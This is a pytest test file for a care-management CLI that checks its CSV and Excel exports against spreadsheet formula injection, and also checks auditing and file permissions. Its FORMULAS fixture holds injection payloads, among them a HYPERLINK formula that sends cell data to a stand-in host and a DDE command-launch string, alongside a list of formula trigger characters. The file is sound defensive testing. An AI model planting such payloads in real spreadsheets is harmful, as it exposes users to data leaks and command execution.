"""Lists on the command line leave as CSV (UTF-8 with a byte-order mark) or .xlsx, formula-safe and audited.

The names below are what a hostile roster can carry: each would run as a formula in Excel or LibreOffice if
a cell began with it unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from hhdesk.cli.main import main
from tests.cli.conftest import run, without_bom
from tests.services.roster_factory import HEADER, medicaid_id, roster_line

FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(new_store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
          monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HHDESK_NEW_PASSWORD", "the counting desk phrase")
    assert run(capsys, "users", "add", "cm1", "--role", "care_manager", "--full-name", "=1+2", "--store",
               str(new_store), "--user", "boss")[0] == 0
    lines = []
    for number, last_name in enumerate(FORMULAS, start=1):
        fields = next(csv.reader([roster_line(number)]))
        fields[1], fields[2] = last_name, ("José" if number == 1 else "Zoë")
        fields[17] = "cm1"  # the care manager
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow(fields)
        lines.append(buffer.getvalue())
    roster = tmp_path / "roster.csv"
    roster.write_text(HEADER + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    code, out, err = run(capsys, "import", "roster", str(roster), "--store", str(new_store), "--user", "boss")
    assert code == 0, err
    return new_store


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(without_bom(text), newline="")))


def test_members_list_csv_defuses_every_formula_and_keeps_accents(store: Path, capsys) -> None:
    code, out, err = run(capsys, "members", "list", "--store", str(store), "--user", "boss", "--format", "csv")
    assert code == 0, err
    rows = cells(out)
    last_names = {row[1] for row in rows[1:]}
    assert last_names == {"'" + name for name in FORMULAS}
    assert {row[2] for row in rows[1:]} == {"José", "Zoë"}
    assert "\r\n" in out


@pytest.mark.parametrize("command", [
    ["members", "list"], ["worklist", "--for", "*"], ["transitions", "list"], ["referrals", "list"],
    ["audit"], ["users", "list"], ["billing", "preview", "--month", "2025-06"],
])
def test_no_cell_of_any_list_begins_a_formula(store: Path, capsys, command: list[str]) -> None:
    code, out, err = run(capsys, *command, "--store", str(store), "--user", "boss", "--format", "csv")
    assert code == 0, err
    rows = cells(out)
    assert rows, "the CSV has a header"
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"{command}: {cell!r} would run as a formula"


def test_members_list_as_a_workbook(store: Path, tmp_path: Path, capsys) -> None:
    out_file = tmp_path / "caseload.xlsx"
    code, _out, err = run(capsys, "members", "list", "--store", str(store), "--user", "boss", "--format", "xlsx",
                          "--out", str(out_file), "--status", "enrolled")
    assert code == 0, err
    assert "Wrote 4 rows" in err
    book = openpyxl.load_workbook(out_file)
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["medicaid_id", "last_name", "first_name"]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s" and row[1].quotePrefix  # text, and stays text when edited
        names[row[1].value] = row[2].value
    assert set(names) == set(FORMULAS)  # stored exactly, no apostrophe added to the data
    assert names[FORMULAS[0]] == "José"
    assert sheet.cell(row=2, column=4).is_date  # the date of birth is a date, not text
    with zipfile.ZipFile(out_file) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    about = dict(row for row in book["About this export"].iter_rows(values_only=True))
    assert about["List"] == "Caseload" and about["Status"] == "enrolled" and about["Rows"] == "4"


def test_exports_are_audited_without_member_data(store: Path, tmp_path: Path, capsys) -> None:
    run(capsys, "members", "list", "--store", str(store), "--user", "boss", "--format", "csv")
    run(capsys, "members", "list", "--store", str(store), "--user", "boss", "--format", "xlsx", "--out",
        str(tmp_path / "José.xlsx"))
    run(capsys, "audit", "--store", str(store), "--user", "boss", "--member", medicaid_id(1), "--format", "csv")
    code, out, _ = run(capsys, "audit", "--store", str(store), "--user", "boss", "--format", "csv")
    assert code == 0
    exports = [row for row in cells(out)[1:] if row[3] == "export_list"]
    assert [row[5] for row in exports] == ["audit_log", "caseload", "caseload"]  # newest first
    for row in exports:
        detail = row[7]
        assert "José" not in detail and "HYPERLINK" not in detail and medicaid_id(1) not in detail
        assert "sha256 " in detail
    assert exports[0][6] == medicaid_id(1)  # linked to the member, as every event about a member is
    assert "Member (Medicaid ID): (typed text, not recorded)" in exports[0][7]
    assert "caseload as xlsx; 4 rows" in exports[1][7]
    assert exports[2][7].endswith("to standard output")


def test_wrong_output_options_are_refused_before_the_password(store: Path, tmp_path: Path, capsys,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HHDESK_PASSWORD")
    code, _, err = run(capsys, "members", "list", "--store", str(store), "--user", "boss", "--format", "xlsx")
    assert code == 1 and "--out FILE.xlsx" in err
    code, _, err = run(capsys, "worklist", "--store", str(store), "--user", "boss", "--format", "csv", "--out",
                       str(tmp_path / "list.xlsx"))
    assert code == 1 and "must end in .csv" in err
    code, _, err = run(capsys, "worklist", "--store", str(store), "--user", "boss", "--out", str(tmp_path / "a.csv"))
    assert code == 1 and "--format csv" in err
    assert not (tmp_path / "a.csv").exists() and not (tmp_path / "list.xlsx").exists()


def test_csv_to_a_file_has_the_bom_and_crlf(store: Path, tmp_path: Path, capsys) -> None:
    out_file = tmp_path / "referrals.csv"
    assert main(["referrals", "list", "--store", str(store), "--user", "boss", "--format", "csv",
                 "--out", str(out_file)]) == 0
    data = out_file.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfreferral_id,") and data.endswith(b"\r\n")
    assert out_file.stat().st_mode & 0o077 == 0  # private to the user


def test_on_a_terminal_the_csv_has_no_byte_order_mark(store: Path, capsys,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    code, out, _ = run(capsys, "users", "list", "--store", str(store), "--user", "boss", "--format", "csv")
    assert code == 0 and out.startswith("username,full_name,role,disabled\r\n")
